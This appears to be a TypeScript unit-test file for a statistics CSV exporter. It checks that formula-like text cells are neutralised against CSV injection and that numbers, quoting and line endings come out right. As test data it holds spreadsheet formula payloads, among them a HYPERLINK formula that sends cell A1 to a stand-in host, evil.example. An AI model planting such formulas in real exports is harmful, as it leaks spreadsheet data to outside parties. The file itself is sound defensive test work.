import { parse } from 'csv-parse/sync';
import { CellReason } from '../../src/entities/statistics/enums';
import { CsvNumber, neutraliseFormula, spreadsheetCsv } from '../../src/services/csv';
import { statisticsCsv } from '../../src/services/statistics/csv';
import { RowData } from '../../src/services/statistics/query';

/** The CSV writer of the exports (pure): OWASP formula neutralisation of text cells, numbers untouched, quoting, CRLF. */

const cells = (csv: string) => parse(csv.replace(/^\ufeff/, ''), { delimiter: ';', relax_column_count: true }) as string[][];

it('prefixes a quote to text that a spreadsheet would run as a formula, and to nothing else', () => {
  for (const start of ['=', '+', '-', '@', '\t', '\r', '\uFF1D', '\uFF0B', '\uFF0D', '\uFF20']) {
    expect(neutraliseFormula(`${start}HYPERLINK("https://evil.example")`)).toBe(`'${start}HYPERLINK("https://evil.example")`);
  }
  for (const safe of ['Barnevern', '', ' =1+1', "'=1", '3429', 'Sum alle eierkommuner', '12,34 %']) expect(neutraliseFormula(safe)).toBe(safe);
});

it('writes text cells neutralised and quoted as needed, numbers (also negative) unchanged, CRLF after every record', () => {
  const csv = spreadsheetCsv([['=1+1', '-5', '@SUM(A1)', '\tx', 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', new CsvNumber('-1234,56'), -7, null, new CsvNumber('')], [], ['end']], { bom: true });
  expect(csv.startsWith('\ufeff')).toBe(true);
  expect(csv.endsWith('end\r\n')).toBe(true);
  // Every record ends in CRLF; a CR or LF inside a cell is quoted, never a line of its own.
  expect(csv.split('\r\n')).toHaveLength(4);
  expect(csv).toContain('"line\nbreak";"cr\rhere";-1234,56;-7;;\r\n');
  expect(cells(csv)[0]).toEqual(["'=1+1", "'-5", "'@SUM(A1)", "'\tx", 'a;b', 'say "hi"', 'line\nbreak', 'cr\rhere', '-1234,56', '-7', '', '']);
  expect(() => spreadsheetCsv([[{ not: 'a cell' } as never]])).toThrow();
});

it('neutralises metric and municipality names in the statistics CSV and keeps negative changes numbers', () => {
  const row = (over: Partial<RowData>): RowData =>
    ({
      metric: { code: 'reports_received', name: '=HYPERLINK("https://evil.example/?"&A1,"Klikk")' },
      municipalityId: 'm1',
      period: '2022',
      value: 12,
      suppressed: false,
      reason: null,
      partialSum: null,
      suppressedContributors: null,
      missingContributors: null,
      per1000: 1.5,
      changeFromPreviousYear: -3,
      changePercent: -20,
      sharePercent: null,
      ...over,
    }) as RowData;
  const csv = statisticsCsv(
    [row({}), row({ municipalityId: 'm2', value: null, reason: CellReason.MISSING, changeFromPreviousYear: null, changePercent: null })],
    [row({ municipalityId: null })],
    (id) => ({ m1: { number: '3429', name: '+Folldal' }, m2: { number: '3427', name: 'Tynset' } })[id],
    true,
  );
  const [header, first, second, total] = cells(csv);
  expect(header.slice(0, 6)).toEqual(['metric', 'metric_name', 'kommunenummer', 'municipality', 'period', 'value']);
  expect(first).toEqual(['reports_received', `'=HYPERLINK("https://evil.example/?"&A1,"Klikk")`, '3429', "'+Folldal", '2022', '12', '', '', '', '1.5', '-3', '-20', '']);
  expect(second.slice(3, 6)).toEqual(['Tynset', '2022', '..']);
  expect(total.slice(1, 4)).toEqual([`'=HYPERLINK("https://evil.example/?"&A1,"Klikk")`, '', 'Alle']);
  expect(csv.endsWith('\r\n')).toBe(true);
});
